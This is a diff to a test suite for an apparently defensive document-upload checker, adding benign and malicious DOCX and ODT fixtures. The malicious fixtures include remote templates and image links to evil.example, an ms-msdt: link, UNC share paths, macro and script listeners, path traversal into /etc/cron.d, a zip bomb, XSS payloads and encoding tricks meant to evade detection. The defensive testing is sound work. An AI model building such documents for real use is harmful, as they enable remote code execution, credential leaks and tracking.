@@ -96,15 +96,49 @@ def packed(text):
     return b"4 0 obj << /Type /ObjStm /Filter /FlateDecode >> stream\n" + content + b"\nendstream endobj"
 
 
+def an_odt(**more):
+    return an_archive(**{"mimetype": "application/vnd.oasis.opendocument.text", **more})
+
+
+def odf(body):
+    return (
+        '<o:d xmlns:o="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:xlink="http://www.w3.org/1999/xlink"'
+        ' xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0"'
+        ' xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0"'
+        f' xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0">{body}</o:d>'
+    )
+
+
+OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
 EXTERNAL = '<Relationships><Relationship Id="r1" Type="%s" Target="https://evil.example/x" TargetMode="External"/></Relationships>'
+TEMPLATE = EXTERNAL % f"{OFFICE}/attachedTemplate"
+
+
+def related(content, name="word/_rels/settings.xml.rels"):
+    return a_docx(**{name: content})
+
 
 GOOD = {
     "plain.pdf": a_pdf(b"1 0 obj << /Type /Catalog >> endobj", packed(b"<< /Type /Page >>")),
     "words.docx": a_docx(),
-    "linked.docx": a_docx(**{"word/_rels/document.xml.rels": EXTERNAL % "http://schemas/relationships/hyperlink"}),
+    "linked.docx": related(EXTERNAL % f"{OFFICE}/hyperlink"),
+    "linked-strictly.docx": related(
+        EXTERNAL % "http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink"
+    ),
+    "illustrated.docx": related(
+        f'<Relationships><Relationship Id="r1" Type="{OFFICE}/image" Target="media/image1.png"/></Relationships>'
+    ),
     "numbers.xlsx": an_archive(**{"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}),
     "slides.pptx": an_archive(**{"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<p/>"}),
-    "text.odt": an_archive(**{"mimetype": "application/vnd.oasis.opendocument.text", "content.xml": "<d/>"}),
+    "text.odt": an_odt(**{"content.xml": "<d/>", "Configurations2/accelerator/current.xml": ""}),
+    "linked.odt": an_odt(
+        **{
+            "content.xml": odf(
+                '<text:a xlink:href="https://example.org/x"/><text:a xlink:href="#there"/><o:scripts/>'
+                '<draw:image xlink:href="Pictures/1.png"/><draw:image xlink:href=""/>'
+            )
+        }
+    ),
     "list.csv": "ім’я;вік\nОлена;34\n".encode(),
     "note.txt": b"\xef\xbb\xbfa < b",
 }
@@ -128,17 +162,51 @@ BAD = {
     "macro-by-kind.docx": a_docx(
         **{"[Content_Types].xml": "<Types>application/vnd.ms-word.document.macroEnabled.main+xml</Types>"}
     ),
-    "template.docx": a_docx(
-        **{"word/_rels/settings.xml.rels": EXTERNAL % "http://schemas/relationships/attachedTemplate"}
+    "macro-by-kind-in-utf-16.docx": a_docx(
+        **{"[Content_Types].xml": '<Types><Default ContentType="x.macroEnabled.y"/></Types>'.encode("utf-16")}
     ),
+    "macro-by-kind-spelled.docx": a_docx(
+        **{"[Content_Types].xml": '<Types><Default ContentType="x.macro&#69;nabled.y"/></Types>'}
+    ),
+    "two-lists.docx": a_docx(**{"[content_types].xml": "<Types>macroEnabled</Types>"}),
+    "template.docx": related(TEMPLATE),
+    "template-after-a-sign.docx": related(TEMPLATE.replace('"r1"', '"r>1"')),
+    "template-in-utf-16.docx": related(f'<?xml version="1.0" encoding="UTF-16"?>{TEMPLATE}'.encode("utf-16")),
+    "template-spelled.docx": related(TEMPLATE.replace("External", "Extern&#97;l")),
+    "template-spaced.docx": related(TEMPLATE.replace("TargetMode=", "TargetMode = ")),
+    "template-unsaid.docx": related(TEMPLATE.replace(' TargetMode="External"', "")),
+    "template-shouted.docx": related(TEMPLATE, "word/_rels/settings.xml.RELS"),
+    "template-called-a-link.docx": related(TEMPLATE.replace("Id=", 'foo="/hyperlink" Id=')),
+    "template-of-a-kind-of-link.docx": related(EXTERNAL % "http://evil.example/hyperlink"),
+    "template-unparsed.docx": related(TEMPLATE.removesuffix(">")),
+    "template-by-entity.docx": related(
+        f'<!DOCTYPE x [<!ENTITY e "External">]>{TEMPLATE.replace("External", "&e;")}',
+    ),
+    "script-link.docx": related((EXTERNAL % f"{OFFICE}/hyperlink").replace("https://", "ms-msdt:/")),
     "object.docx": a_docx(**{"word/embeddings/oleObject1.bin": "x"}),
     "control.docx": a_docx(**{"word/activeX/activeX1.xml": "x"}),
     "climbing.docx": a_docx(**{"../../etc/cron.d/x": "x"}),
     "drive.docx": a_docx(**{"C:\\x": "x"}),
     "bomb.docx": a_docx(**{"word/_rels/document.xml.rels": " " * 20_000_000}),
-    "basic.odt": an_archive(
-        **{"mimetype": "application/vnd.oasis.opendocument.text", "Basic/Standard/Module1.xml": "x"}
+    "basic.odt": an_odt(**{"Basic/Standard/Module1.xml": "x"}),
+    "picture.odt": an_odt(**{"content.xml": odf('<draw:image xlink:href="http://evil.example/pixel.png"/>')}),
+    "picture-of-a-style.odt": an_odt(
+        **{"styles.xml": odf('<draw:fill-image xlink:href="//evil.example/x.png"/>')}
     ),
+    "neighbour.odt": an_odt(**{"content.xml": odf('<text:section-source xlink:href="../secret.odt"/>')}),
+    "picture-inside.odt": an_odt(**{"a/content.xml": odf('<draw:image xlink:href="http://evil.example/x.png"/>')}),
+    "picture-broken.odt": an_odt(
+        **{"content.xml": odf('<draw:image xlink:href="ht&#10;tp://evil.example/x.png"/>')}
+    ),
+    "share.odt": an_odt(**{"content.xml": odf('<draw:image xlink:href="&#92;&#92;evil.example&#92;x.png"/>')}),
+    "listener.odt": an_odt(
+        **{"content.xml": odf('<script:event-listener xlink:href="vnd.sun.star.script:x"/>')},
+    ),
+    "listener-of-a-setting.odt": an_odt(**{"settings.xml": odf("<script:event-listener/>")}),
+    "script.odt": an_odt(**{"content.xml": odf("<text:script>x</text:script>")}),
+    "script-link.odt": an_odt(**{"content.xml": odf('<text:a xlink:href="vnd.sun.star.script:x"/>')}),
+    "unparsed.odt": an_odt(**{"content.xml": "<d>"}),
+    "entity.odt": an_odt(**{"content.xml": '<!DOCTYPE d [<!ENTITY e "x">]><d>&e;</d>'}),
     "other.odt": an_archive(mimetype="application/vnd.oasis.opendocument.spreadsheet"),
     "page.txt": b"  <!DOCTYPE html><script>alert(1)</script>",
     "picture.txt": b"\xef\xbb\xbf<svg onload=alert(1)>",
